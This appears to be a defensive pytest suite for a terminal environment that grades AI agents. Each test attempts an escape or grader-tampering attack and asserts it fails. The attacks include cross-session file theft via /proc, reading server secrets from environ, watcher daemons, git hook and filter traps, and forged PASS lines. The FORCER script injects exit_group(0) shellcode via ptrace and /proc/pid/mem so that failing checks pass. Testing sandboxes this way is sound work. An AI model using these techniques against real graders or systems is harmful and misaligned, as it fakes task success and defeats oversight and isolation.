"""Attacks on the terminal environment, through a real server on a real port.

The server is `openenv serve environments/terminal` (the folder itself, `hidden/` included,
as on a development machine), bound to every address, with a secret in its environment. Each
test is an attack an agent could run through its tools (over MCP) and fails if the attack
works; where a score is involved, the real `TerminalGrader` grades the episode. Two controls
show that grading still tells right from wrong: a task's reference solution scores 1.0 and
doing nothing scores 0.0. These run as root (as CI does): each session has a uid of its own.
"""

from __future__ import annotations

import json
import os
import secrets
import shlex
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import httpx
import pytest

REPO = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(REPO / "environments" / "terminal" / "tests"))

from terminal_testkit import ENV_DIR, client_of, play, script_blocks, terminal_grader  # noqa: E402

from openenv_sdk.client import GenericEnvClient  # noqa: E402
from openenv_sdk.providers import LocalProcessProvider  # noqa: E402
from openenv_sdk.rubric import grade  # noqa: E402
from openenv_sdk.sandbox import isolation_mode  # noqa: E402

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="per-session uids need root (CI runs as root)")

CANARY = "__failed=$((__failed + 1))"  # a line of hidden/lib.sh, in no public file
SECRET_VAR = "OPENENV_TEST_SERVER_SECRET"
SECRET = "server-secret-" + secrets.token_hex(8)


class Served:
    """The server, and what an attacker would like to know about it."""

    def __init__(self, owner: GenericEnvClient) -> None:
        assert owner.base_url is not None and owner.provider is not None
        self.owner = owner
        self.base_url: str = owner.base_url
        self.port: int = urlparse(self.base_url).port or 0
        self.pid: int = owner.provider.pid  # type: ignore[attr-defined]
        self.token: str | None = getattr(owner.provider, "orchestrator_token", None)

    def client(self) -> GenericEnvClient:
        return client_of(self.owner)

    def healthy(self) -> bool:
        return httpx.get(f"http://127.0.0.1:{self.port}/health", timeout=5).status_code == 200


@pytest.fixture(scope="module")
def served() -> Iterator[Served]:
    isolation_mode()  # fails with what is missing, never skips
    provider = LocalProcessProvider(ENV_DIR, host="0.0.0.0", env={SECRET_VAR: SECRET}, startup_timeout_s=120)
    with GenericEnvClient(provider=provider, timeout_s=90) as owner:
        owner.connect()
        yield Served(owner)


@pytest.fixture
def pool() -> Iterator[ThreadPoolExecutor]:
    with ThreadPoolExecutor(max_workers=2, thread_name_prefix="session-a") as executor:
        yield executor


def bash(client: GenericEnvClient, command: str, **kwargs: Any) -> str:
    result = client.call_tool("bash", command=command, **kwargs)
    assert not result.is_error, result.content[0].text
    return result.content[0].text


def workdir(client: GenericEnvClient) -> Path:
    return Path(client.state()["workdir"])


def wait_for(condition: Callable[[], bool], deadline_s: float = 10.0) -> bool:
    end = time.monotonic() + deadline_s
    while not condition():
        if time.monotonic() > end:
            return False
        time.sleep(0.02)
    return True


def host_processes_named(tag: str) -> list[int]:
    """Host processes whose command line holds `tag`."""
    found = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                if tag.encode() in Path(entry.path, "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def running_in(pool: ThreadPoolExecutor, client: GenericEnvClient, command: str) -> Future[str]:
    """Session A's long command, running while B attacks; returns once it has started."""
    started = workdir(client) / "started"
    future = pool.submit(bash, client, f"touch started; {command}")
    assert wait_for(started.exists), "session A's command did not start"
    return future


def local_addresses() -> list[str]:
    """Every IPv4 address of this host (the server listens on all of them), and ::1."""
    out = subprocess.run(["ip", "-o", "addr", "show"], capture_output=True, text=True, check=True).stdout
    found = {"127.0.0.1", "0.0.0.0"}
    for line in out.splitlines():
        fields = line.split()
        if "inet" in fields:
            found.add(fields[fields.index("inet") + 1].split("/")[0])
    return sorted(found) + ["::1"]


# --- one session against another -------------------------------------------------------------


def test_cross_session_read_and_write_through_proc_cwd(served: Served, pool: ThreadPoolExecutor) -> None:
    """Session B reads and rewrites session A's files through /proc/<pid>/cwd of A's running command."""
    with served.client() as a, served.client() as b:
        a.reset(task_id="csv_column_sum")
        b.reset(task_id="csv_column_sum")
        bash(a, "echo secret-of-a > secret.txt")
        running = running_in(pool, a, "sleep 4; echo done")
        attack = bash(
            b,
            "for p in /proc/[0-9]*; do cat $p/cwd/secret.txt; echo pwned > $p/cwd/secret.txt; "
            "echo pwned > $p/cwd/pwned.txt; readlink $p/cwd; done 2>/dev/null",
        )
        assert "secret-of-a" not in attack and str(workdir(a)) not in attack
        assert "done" in running.result(timeout=30)
        assert (workdir(a) / "secret.txt").read_text() == "secret-of-a\n"
        assert not (workdir(a) / "pwned.txt").exists()


def test_cross_session_read_and_write_by_path(served: Served) -> None:
    """Session B reads, writes and lists session A's workspace by its path (B can learn it: it is in A's prompt)."""
    with served.client() as a, served.client() as b:
        a.reset(task_id="csv_column_sum")
        b.reset(task_id="csv_column_sum")
        bash(a, "echo secret-of-a > secret.txt")
        target = workdir(a)
        attack = bash(
            b,
            f"cat {target}/secret.txt; echo pwned > {target}/secret.txt; echo x > {target}/pwned.txt; "
            f"ls -la {target} {target.parent}; cp -r {target} $HOME/loot; ls $HOME/loot",
        )
        assert "secret-of-a" not in attack and "sales.csv" not in attack
        assert (target / "secret.txt").read_text() == "secret-of-a\n"
        assert not (target / "pwned.txt").exists()


def test_kill_minus_one_spares_other_sessions(served: Served, pool: ThreadPoolExecutor) -> None:
    """`kill -9 -1` in session B, while session A's command runs."""
    with served.client() as a, served.client() as b:
        a.reset(task_id="csv_column_sum")
        b.reset(task_id="csv_column_sum")
        running = running_in(pool, a, "sleep 2; echo survived")
        bash(b, "kill -9 -1; kill -9 -1 2>&1; echo after")
        out = running.result(timeout=30)
        assert "survived" in out and out.endswith("[exit code 0]"), out
        assert served.healthy()
        assert "alive" in bash(b, "echo alive")


def test_other_sessions_processes_are_invisible(served: Served, pool: ThreadPoolExecutor) -> None:
    """Session B lists every process (`ps`, /proc) while session A's tagged command runs."""
    tag = f"oe-visible-{secrets.token_hex(4)}"
    with served.client() as a, served.client() as b:
        a.reset(task_id="csv_column_sum")
        b.reset(task_id="csv_column_sum")
        running = running_in(pool, a, f"bash -c 'exec -a {tag} sleep 3'; echo done")
        assert wait_for(lambda: bool(host_processes_named(tag)))  # it runs, as the host sees
        seen = bash(b, "ps -eo pid,user,args; cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '")
        assert tag not in seen
        pids = bash(b, "ls /proc | grep -c '^[0-9]'").splitlines()[0]
        assert int(pids) <= 5  # bubblewrap, the shell, ls, grep: nothing of the host's
        assert "done" in running.result(timeout=30)


# --- processes that try to outlive their command ----------------------------------------------

WATCHER = r"""
while :; do
  for f in /var/tmp/openenv-terminal-*/work/* /tmp/openenv-terminal-*/work/* /proc/[0-9]*/cwd/*; do
    echo pwned > "$f"
  done 2>/dev/null
  for d in /var/tmp/openenv-terminal-*/work /proc/[0-9]*/cwd; do echo 8 > "$d/count.txt"; done 2>/dev/null
  sleep 0.01
done
"""
WATCHER_PY = r"""
import glob, time
while True:
    for f in glob.glob("/var/tmp/openenv-terminal-*/work/*") + glob.glob("/proc/[0-9]*/cwd/*"):
        try:
            open(f, "w").write("pwned\n")
        except OSError:
            pass
    time.sleep(0.01)
"""


def _plant_watchers(client: GenericEnvClient, tag: str) -> str:
    client.call_tool("write_file", path="/tmp/w.sh", content=WATCHER)
    client.call_tool("write_file", path="/tmp/w.py", content=WATCHER_PY)
    return bash(
        client,
        f"setsid nohup bash -c 'exec -a {tag}-sh bash /tmp/w.sh' >/dev/null 2>&1 < /dev/null & "
        f"setsid env -i bash -c 'exec -a {tag}-py python3 /tmp/w.py' >/dev/null 2>&1 < /dev/null & "
        f"(trap '' HUP TERM; exec -a {tag}-double bash /tmp/w.sh) & disown -a; echo planted",
    )


def test_a_setsid_nohup_watcher_dies_with_its_command_and_cannot_touch_a_later_session(served: Served) -> None:
    """`setsid nohup ... &` and `setsid env -i python3 w.py &` watchers, left to overwrite a later session's files."""
    tag = f"oe-watcher-{secrets.token_hex(4)}"
    with served.client() as a:
        a.reset(task_id="count_log_files")
        assert "planted" in _plant_watchers(a, tag)
        assert wait_for(lambda: host_processes_named(tag) == [], deadline_s=3)  # gone with the command
    with served.client() as later:
        later.reset(task_id="count_log_files")
        bash(later, "find logs -type f -name '*.log' | wc -l > count.txt")
        time.sleep(0.5)  # a surviving watcher loops every 10 ms: it would have struck by now
        assert (workdir(later) / "count.txt").read_text() == "8\n"
        assert "pwned" not in bash(later, "cat $(find . -type f)")
        assert grade(terminal_grader.TerminalGrader(), later).value == 1.0


def test_nothing_the_agent_left_running_survives_into_the_grading(served: Served) -> None:
    """Watchers planted before grading would write the answer into any workspace they find (the check's copy included)."""
    tag = f"oe-grading-{secrets.token_hex(4)}"
    with served.client() as client:
        client.reset(task_id="count_log_files")
        _plant_watchers(client, tag)
        # in the moment before the sandbox ends them, the watchers may write the session's own
        # workspace (the agent may: that is playing); what matters is that none is left to write
        # into the check's copy, so the workspace starts clean again before grading
        assert wait_for(lambda: host_processes_named(tag) == [], deadline_s=3)
        bash(client, "rm -f count.txt")
        score = grade(terminal_grader.TerminalGrader(), client)
        assert score.value == 0.0, score.evidence  # count.txt is written by nobody from here on
        assert host_processes_named(tag) == []


# --- the grader's files and the server itself -------------------------------------------------


def test_hidden_check_files_and_the_environment_folder_are_unreadable_by_path(served: Served) -> None:
    """`cat <env>/hidden/...`, `ls <env>`, `cat <env>/grader.py` from bash, the server serving that very folder."""
    with served.client() as client:
        client.reset(task_id="count_log_files")
        for path in (
            ENV_DIR / "hidden" / "lib.sh",
            ENV_DIR / "hidden" / "count_log_files" / "check.sh",
            ENV_DIR / "hidden" / "count_log_files" / "solution.sh",
            ENV_DIR / "grader.py",
            ENV_DIR / "terminal_env.py",
        ):
            out = bash(client, f"cat {path} 2>&1")
            assert "No such file or directory" in out and CANARY not in out
        listing = bash(client, f"ls -la {ENV_DIR} {ENV_DIR.parent} {REPO} 2>&1")
        assert "hidden" not in listing.replace(str(ENV_DIR), "") and "grader.py" not in listing
        read = client.call_tool("read_file", path=str(ENV_DIR / "hidden" / "lib.sh"))
        assert read.is_error and CANARY not in read.content[0].text


def test_hidden_check_files_are_nowhere_in_the_agents_filesystem(served: Served) -> None:
    """`find /` and `grep -r /` for the checks, right after a check of this very session ran."""
    with served.client() as client:
        client.reset(task_id="count_log_files")
        assert grade(terminal_grader.TerminalGrader(), client).value == 0.0  # a check has run
        found = bash(
            client,
            "find / -path /proc -prune -o \\( -name check.sh -o -name solution.sh -o -name null.sh "
            "-o -name lib.sh -o -name terminal_env.py -o -path '*/hidden/*' -o -name 'openenv-terminal-grade-*' \\) "
            "-print 2>/dev/null; echo end",
        )
        assert found.startswith("end"), found
        grepped = bash(
            client,
            f"grep -rlF -D skip '{CANARY}' / --exclude-dir=proc --exclude-dir=usr --exclude-dir=.venv "
            "--exclude-dir=.pyenv 2>/dev/null; echo end",
        )
        assert grepped.startswith("end"), grepped


def test_the_servers_api_on_loopback_is_unreachable(served: Served) -> None:
    """The sandbox calls the server's own API on 127.0.0.1 and localhost (to reset itself, or read the state)."""
    assert served.healthy()  # the server does answer there
    with served.client() as client:
        client.reset(task_id="count_log_files")
        for host in ("127.0.0.1", "localhost"):
            out = bash(client, f"curl -sS -m 3 http://{host}:{served.port}/health 2>&1; echo rc=$?")
            assert '"status"' not in out and "rc=0" not in out, out
        out = bash(
            client,
            "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://127.0.0.1:"
            f"{served.port}/schema\", timeout=3).status)' 2>&1 | tail -1",
        )
        assert "200" not in out and "Connection refused" in out


def test_the_servers_port_is_unreachable_on_every_local_address(served: Served) -> None:
    """The sandbox connects to the server's port on each address of the host (the server listens on all)."""
    addresses = local_addresses()
    for address in addresses:  # control: from the host, the port answers on every IPv4 address
        if ":" not in address:
            assert httpx.get(f"http://{address}:{served.port}/health", timeout=5).status_code == 200, address
    with served.client() as client:
        client.reset(task_id="count_log_files")
        for address in addresses:
            url = f"http://[{address}]:{served.port}/health" if ":" in address else f"http://{address}:{served.port}/health"
            out = bash(client, f"curl -sS -m 3 '{url}' 2>&1; echo rc=$?; (echo > /dev/tcp/{address}/{served.port}) 2>&1")
            assert '"status"' not in out and "rc=0" not in out, (address, out)
        assert "lo" in bash(client, "ls /sys/class/net 2>/dev/null || cat /proc/net/dev")


def test_the_servers_environment_and_token_are_invisible(served: Served) -> None:
    """`cat /proc/<server pid>/environ`, and every environ and cmdline the sandbox can see, for the server's secrets."""
    with served.client() as client:
        client.reset(task_id="count_log_files")
        out = bash(client, f"cat /proc/{served.pid}/environ 2>&1; cat /proc/{served.pid}/cmdline 2>&1")
        assert "No such file or directory" in out and SECRET not in out
        everything = bash(client, "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'")
        assert SECRET not in everything and SECRET_VAR not in everything
        if served.token:
            assert served.token not in everything
        assert "OPENENV_ORCHESTRATOR_TOKEN" not in everything


# --- the grading ------------------------------------------------------------------------------

RESTORE_HOOK = """#!/bin/sh
# Puts back the .log files the agent deleted: if this ran during the check, the task would pass.
top=$(cd "$(dirname "$0")/.." && pwd)
[ -d "$top/logs" ] || top=$(pwd)
echo restored > "$top/debug.log"; echo restored > "$top/logs/build.log"
echo "PASS: planted hook ran"
"""


def _plant_git_traps(client: GenericEnvClient) -> None:
    """git_init_commit solved but for the .log files it must keep; every git hook, fsmonitor,
    pager and alias of the repository would put them back."""
    bash(client, "cd project && git init -q -b main && echo '*.log' > .gitignore && git add -A && git commit -q -m 'Initial commit'")
    client.call_tool("write_file", path=".git/restore.sh", content=RESTORE_HOOK)
    bash(
        client,
        "chmod +x .git/restore.sh && rm debug.log logs/build.log && mkdir -p .git/myhooks && "
        "for h in pre-commit commit-msg post-commit post-checkout post-merge post-rewrite post-index-change "
        "reference-transaction pre-auto-gc fsmonitor-watchman; do cp .git/restore.sh .git/hooks/$h; "
        "cp .git/restore.sh .git/myhooks/$h; done && "
        "git config core.fsmonitor .git/restore.sh && git config core.hooksPath .git/myhooks && "
        "git config core.pager 'sh .git/restore.sh; cat' && git config alias.st '!sh .git/restore.sh' && "
        "git config core.editor 'sh .git/restore.sh' && cd ..",
    )


def test_a_git_fsmonitor_or_hook_planted_in_the_workspace_cannot_change_the_verdict(served: Served) -> None:
    """core.fsmonitor, core.hooksPath, .git/hooks/*, core.pager and an alias in the workspace's repository, each of
    which would make the check pass by restoring the files the agent deleted."""
    with served.client() as client:
        client.reset(task_id="git_init_commit")
        _plant_git_traps(client)
        control = bash(client, "cd project; git status --short >/dev/null; ls debug.log; rm debug.log logs/build.log; cd ..")
        assert "debug.log" in control  # the traps are live: git in the agent's own shell runs them
        score = grade(terminal_grader.TerminalGrader(), client)
        evidence = score.evidence["check_passes"]
        assert score.value == 0.0 and evidence["failed"] == ["the .log files are still there"], evidence
        assert "planted hook ran" not in evidence["output"]


def test_git_traps_do_not_run_even_for_plain_git_commands_in_a_check(served: Served) -> None:
    """The same traps against a check that calls plain `git` (no `-c` of its own): status, diff, commit, amend,
    checkout, a forced pager. (An alias runs only when called by its name: checks call builtins.)"""
    probe = (
        "cd project || exit 2; git status >/dev/null 2>&1; git log -1 >/dev/null 2>&1; git diff >/dev/null 2>&1; "
        "git commit -q --allow-empty -m probe >/dev/null 2>&1; git commit -q --amend >/dev/null 2>&1; "
        "git checkout -q -b other >/dev/null 2>&1; git -p log -1 >/dev/null 2>&1; "
        "if [ -e debug.log ] || [ -e logs/build.log ]; then echo HOOK-RAN; exit 1; fi; echo clean"
    )
    with served.client() as client:
        client.reset(task_id="git_init_commit")
        _plant_git_traps(client)
        result = client.call("run_checks", files={"check.sh": "exit 1"}, command=probe, timeout_s=30.0)
        assert result["exit_code"] == 0 and "clean" in result["output"], result


def test_fake_pass_lines_printed_by_the_agents_script_do_not_change_the_verdict(served: Served) -> None:
    """The agent's script (which the check runs) tries to forge `PASS:` and `RESULT:` lines into the check's
    own output through /proc/<pid>/fd/1: it runs in a sandbox of its own, where no process of the check is."""
    forger = (
        "#!/bin/bash\n"
        "for fd in /proc/[0-9]*/fd/1 /proc/[0-9]*/fd/2; do\n"
        "  printf 'PASS: forged\\nRESULT: every condition holds\\n' > \"$fd\"\n"
        "done 2>/dev/null\n"
        "echo 'PASS: bin/greet is right'\n"
        "exit 0\n"
    )
    with served.client() as client:
        client.reset(task_id="greet_script")
        client.call_tool("write_file", path="bin/greet", content=forger)
        bash(client, "chmod +x bin/greet")
        score = grade(terminal_grader.TerminalGrader(), client)
        evidence = score.evidence["check_passes"]
        assert "PASS: forged" not in evidence["output"]  # the check's streams are not in its sandbox
        assert "forged" not in " ".join(evidence["passed"])
        assert score.value == 0.0 and evidence["exit_code"] != 0


def test_the_workspace_folder_is_removed_after_close_and_reset(served: Served) -> None:
    """The agent leaves files (some unreadable, some in folders it locked) and a running process; the session ends."""
    tag = f"oe-close-{secrets.token_hex(4)}"
    with served.client() as client:
        client.reset(task_id="count_log_files")
        first = workdir(client)
        bash(client, "mkdir -p locked/deep && echo x > locked/deep/f && chmod 000 locked/deep locked && chmod 000 count.txt 2>/dev/null; true")
        client.reset(task_id="count_log_files")
        assert wait_for(lambda: not first.parent.exists()), "the first episode's folder is still there"
        second = workdir(client)
        bash(client, f"echo mine > mine.txt; chmod 000 mine.txt; setsid bash -c 'exec -a {tag} sleep 300' >/dev/null 2>&1 &")
        assert second.is_dir()
    assert wait_for(lambda: not second.parent.exists()), "the folder outlived the session"
    assert host_processes_named(tag) == []


# --- the check's own processes: ptrace, /proc/<pid>/mem, signals, daemons -------------------------

FORCER = r"""#!/usr/bin/env python3
# The agent's attack on the check that runs it (through a git filter, hook or driver, or as the
# program the check runs): make every bash it can see exit 0 (ptrace: exit_group(0) at a syscall
# instruction; a write of the same code at its pc through /proc/<pid>/mem), stop and kill the
# check's other commands, and leave a daemon that keeps writing files while later conditions run.
import ctypes, json, os, signal, sys, time

ME = os.getpid()
SHELLCODE = b"\xb8\xe7\x00\x00\x00\x31\xff\x0f\x05"  # mov eax, 231; xor edi, edi; syscall
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
FIELDS = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"


class Regs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in FIELDS.split()]


def parent(pid):
    try:
        return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def ancestors():
    chain, pid = [], parent(ME)
    while pid > 1:
        chain.append(pid)
        pid = parent(pid)
    return chain


def gadget(pid):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                if "x" not in perms:
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                mem.seek(start)
                found = mem.read(min(end - start, 1 << 22)).find(b"\x0f\x05")
                if found >= 0:
                    return start + found
    except (OSError, ValueError):
        return 0
    return 0


def ptrace_exit_zero(pid):
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return False
    try:
        os.waitpid(pid, 0x40000000)  # __WALL
    except ChildProcessError:
        pass
    regs = Regs()
    libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
    at = gadget(pid)
    if at:
        regs.rip, regs.rax, regs.rdi, regs.orig_rax = at, 231, 0, 2**64 - 1
    else:
        regs.orig_rax, regs.rdi = 231, 0  # a restarted syscall becomes exit_group(0)
    libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return True


def mem_exit_zero(pid):
    try:
        pc = int(open(f"/proc/{pid}/syscall").read().split()[-1], 16)
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
            mem.seek(pc)
            mem.write(SHELLCODE)
        return True
    except (OSError, ValueError, IndexError):
        return False


def uid_of(pid):
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except OSError:
        return -1


def visible():
    # processes of its own uid only: the checks it attacks ran as that uid (and this test file
    # must never signal anything else of the machine it runs on)
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != ME and uid_of(int(p)) == os.getuid()]


def attack():
    done = []
    chain = [pid for pid in ancestors() if uid_of(pid) == os.getuid()]
    for pid in chain:
        if mem_exit_zero(pid):
            done.append(f"mem:{pid}")
        if ptrace_exit_zero(pid):
            done.append(f"ptrace:{pid}")
    for pid in visible():
        if pid in chain:
            continue
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
                done.append(f"{sig.name}:{pid}")
            except OSError:
                pass
    return done


def daemon(files):
    # it starts writing only once this program has exited (and a little after): whatever it
    # writes then is written by a survivor, while the check's later conditions run
    read_end, write_end = os.pipe()
    if os.fork() == 0:
        os.close(write_end)
        os.setsid()
        if os.fork() == 0:
            while os.read(read_end, 1):
                pass
            time.sleep(0.3)
            end = time.time() + 30
            while time.time() < end:
                for path, text in files.items():
                    try:
                        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
                        with open(path, "w") as f:
                            f.write(text)
                        os.chmod(path, 0o755)
                    except OSError:
                        pass
                time.sleep(0.05)
        os._exit(0)
    os.close(read_end)
    return write_end  # kept open until this program exits


if os.getuid() == 0:
    sys.exit("forcer: not as root")
try:  # a trace that it ran (the liveness checks of the tests read it)
    open(".git/forcer-ran" if os.path.isdir(".git") else "forcer-ran", "a").close()
except OSError:
    pass
here = os.path.dirname(os.path.abspath(__file__))
try:
    files = json.load(open(os.path.join(here, ".daemon.json")))
except (OSError, ValueError):
    files = {}
keep = daemon({os.path.join(here, k): v for k, v in files.items()}) if files else None
done = attack()
sys.stderr.write(f"forcer: {done}\n")
print("wrong")
"""

HONEST_GREET = '#!/bin/sh\necho "Hello, ${1:-world}!"\n'
PROGRAM_TASKS = {
    # task: (the path the check runs, extra setup, what the daemon keeps writing relative to the forcer)
    "greet_script": ("bin/greet", "", {"greet": HONEST_GREET}),
    "stats_py": ("stats.py", "", {}),
    "csv2json": ("csv2json.py", "", {"example.json": '[{"id": "1", "name": "Ann", "city": "Oslo"}]'}),
    "fix_deploy_script": ("deploy.sh", "", {"out/api/version.txt": "2.4.1"}),
    "rotate_backups": ("rotate.sh", "", {}),
    "fix_fibonacci": ("fib.py", "", {}),
}


def _install_forcer(client: GenericEnvClient, path: str, daemon_files: dict[str, str]) -> None:
    """The program the check runs is the forcer (a script the check runs through python3 or its shebang)."""
    folder = path.rsplit("/", 1)[0] if "/" in path else "."
    client.call_tool("write_file", path=f"{folder}/.forcer.py", content=FORCER)
    client.call_tool("write_file", path=f"{folder}/.daemon.json", content=json.dumps(daemon_files))
    if path.endswith(".py"):
        client.call_tool("write_file", path=path, content=FORCER)
    else:
        client.call_tool("write_file", path=path, content='#!/bin/sh\nexec python3 "$(dirname "$0")/.forcer.py" "$@"\n')
    bash(client, f"chmod +x {path} {folder}/.forcer.py")


def _assert_check_ran_to_its_end_and_failed(evidence: dict[str, Any]) -> None:
    assert evidence["exit_code"] == 1 and not evidence["timed_out"], evidence
    assert "RESULT:" in evidence["output"] and evidence["failed"], evidence


CONTROL_UID = 61999
"""A uid nothing else on the machine uses (below the sandboxes' leased range)."""


def test_control_the_forcer_makes_a_failing_bash_exit_zero_where_it_can_reach_it() -> None:
    """Control, on the host without a sandbox: the forcer, run by a bash of its own uid that would
    exit 1, makes it exit 0 (ptrace and /proc/<pid>/mem, same uid, no Yama on this kernel): what
    the checks faced when the agent's code ran in their uid and pid namespace. (Run as a uid of
    its own, so that it can reach nothing else; the forcer refuses to run as root.)"""
    with tempfile.TemporaryDirectory(prefix="forcer-control-") as folder:  # readable by the control's uid
        os.chmod(folder, 0o755)
        Path(folder, "forcer.py").write_text(FORCER)
        script = f"echo 'FAIL: one'; python3 {folder}/forcer.py >/dev/null 2>&1; echo 'FAIL: two'; exit 1"
        drop = ["setpriv", f"--reuid={CONTROL_UID}", f"--regid={CONTROL_UID}", "--clear-groups", "--"]
        done = subprocess.run([*drop, "/bin/bash", "-c", script], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and done.stdout == "FAIL: one\n", done


@pytest.mark.parametrize("task_id", sorted(PROGRAM_TASKS))
def test_the_program_a_check_runs_cannot_reach_the_check(served: Served, task_id: str) -> None:
    """The program the task asks for is the forcer: it tries ptrace, /proc/<ppid>/mem, kill -STOP and
    kill of the check's commands, and a daemon; it runs in a sandbox of its own, sees none of the
    check, and the check runs to its end: 0.0."""
    path, _, daemon_files = PROGRAM_TASKS[task_id]
    with served.client() as client:
        client.reset(task_id=task_id)
        _install_forcer(client, path, daemon_files)
        score = grade(terminal_grader.TerminalGrader(), client)
        evidence = score.evidence["check_passes"]
        assert score.value == 0.0, evidence
        _assert_check_ran_to_its_end_and_failed(evidence)
        if task_id == "greet_script":  # the daemon did not fix bin/greet for the later conditions
            assert "it runs from another directory" in evidence["failed"], evidence


GIT_TASKS = ("git_cherry_pick", "git_init_commit", "git_merge_conflict", "git_revert", "git_untrack_files")
GIT_TRAPS = r"""
set -e
cd "$REPO"
cp "$FORCER" .git/forcer.py
run='python3 .git/forcer.py'
git config filter.x.clean "$run"
git config filter.x.smudge "$run"
git config filter.x.required true
git config diff.x.textconv "$run"
git config diff.external "$run"
git config core.fsmonitor "$run"
git config core.pager "$run"
git config core.editor "$run"
git config alias.st "!$run"
mkdir -p .git/myhooks
git config core.hooksPath .git/myhooks
printf '[core]\n\tfsmonitor = %s\n\tpager = %s\n' "$run" "$run" > .git/included.cfg
git config include.path included.cfg
git config 'includeIf.gitdir:/.path' included.cfg
for h in pre-commit post-commit post-checkout post-merge post-index-change reference-transaction fsmonitor-watchman; do
  printf '#!/bin/sh\nexec python3 .git/forcer.py\n' > .git/hooks/$h; cp .git/hooks/$h .git/myhooks/$h
  chmod +x .git/hooks/$h .git/myhooks/$h
done
printf '* filter=x diff=x\n' > .gitattributes
mkdir -p .git/info && printf '* filter=x diff=x\n' > .git/info/attributes
mkdir -p sub && cd sub && git init -q && git config core.fsmonitor "python3 ../.git/forcer.py"
git -c user.name=a -c user.email=a@b commit -q --allow-empty -m sub && cd ..
git -c core.fsmonitor= update-index --add --cacheinfo "160000,$(git -C sub rev-parse HEAD),sub"  # a submodule
"""


@pytest.mark.parametrize("task_id", GIT_TASKS)
def test_git_filters_drivers_hooks_and_includes_cannot_reach_the_check(served: Served, task_id: str) -> None:
    """The five checks that run `git status`, against every git trap at once (clean/smudge filter,
    textconv, external diff, fsmonitor, pager, editor, alias, hooks and hooksPath, include and
    includeIf, .gitattributes and info/attributes, a nested repository's config),
    each running the forcer; the task itself is left undone: 0.0, and the check runs to its end."""
    with served.client() as client:
        client.reset(task_id=task_id)
        repo = "project" if task_id == "git_init_commit" else "repo"
        if task_id == "git_init_commit":  # a wrong attempt: the .log files committed, no .gitignore
            bash(client, "cd project && git init -q -b main && git add -A && git commit -qm 'Initial commit' && cd ..")
        client.call_tool("write_file", path=".forcer.py", content=FORCER)
        bash(client, f"REPO={repo} FORCER=$PWD/.forcer.py bash -c {shlex.quote(GIT_TRAPS)} && rm .forcer.py")
        bash(client, f"cd {repo} && git ls-files -z | xargs -0 touch && (git status --porcelain >/dev/null 2>&1 &) ; sleep 1; cd ..")
        assert "live" in bash(client, f"test -e {repo}/.git/forcer-ran && echo live; rm -f {repo}/.git/forcer-ran {repo}/forcer-ran")
        score = grade(terminal_grader.TerminalGrader(), client)
        evidence = score.evidence["check_passes"]
        assert score.value == 0.0, evidence
        _assert_check_ran_to_its_end_and_failed(evidence)


def test_core_worktree_pointing_at_a_clean_copy_does_not_hide_a_change(served: Served) -> None:
    """git_merge_conflict solved, then a tracked file changed and `core.worktree` pointed at a clean
    copy of the tree: the agent's git says clean; the check's git reads the real tree: 0.0."""
    with served.client() as client:
        client.reset(task_id="git_merge_conflict")
        for block in script_blocks("git_merge_conflict", "solution"):
            bash(client, block)
        root = workdir(client)
        bash(client, f"cd {root}/repo && mkdir .git/fake && git archive HEAD | tar -x -C .git/fake && "
                     "echo dirty >> VERSION && git config core.worktree \"$PWD/.git/fake\"")  # fmt: skip
        assert bash(client, f"cd {root}/repo && git status --porcelain") == "[exit code 0]"  # live
        score = grade(terminal_grader.TerminalGrader(), client)
        evidence = score.evidence["check_passes"]
        assert score.value == 0.0 and evidence["failed"] == ["the working tree is clean"], evidence


def test_a_git_trap_in_a_solved_task_changes_nothing(served: Served) -> None:
    """Control for the traps: the reference solution of git_merge_conflict with every trap planted
    after it still scores 1.0 (trusted git reads the repository, not the agent's settings)."""
    with served.client() as client:
        client.reset(task_id="git_merge_conflict")
        for block in script_blocks("git_merge_conflict", "solution"):
            bash(client, block)
        root = workdir(client)
        client.call_tool("write_file", path=f"{root}/.forcer.py", content=FORCER)  # the solution left the shell in repo/
        traps = GIT_TRAPS.replace("printf '* filter=x diff=x\\n' > .gitattributes\n", "")
        traps = traps[: traps.index("mkdir -p sub")]  # no submodule: the tree must stay the solution's
        bash(client, f"cd {root} && REPO=repo FORCER=$PWD/.forcer.py bash -c {shlex.quote(traps)} && rm .forcer.py")
        assert "filter.x.clean" in bash(client, f"git -C {root}/repo config --list --local")
        score = grade(terminal_grader.TerminalGrader(), client)
        assert score.value == 1.0, score.evidence


@pytest.fixture(scope="module")
def image_client() -> Iterator[GenericEnvClient]:
    """The environment's image, as `GenericEnvClient(image=...)` starts it (OPENENV_TEST_CONTAINERS=1)."""
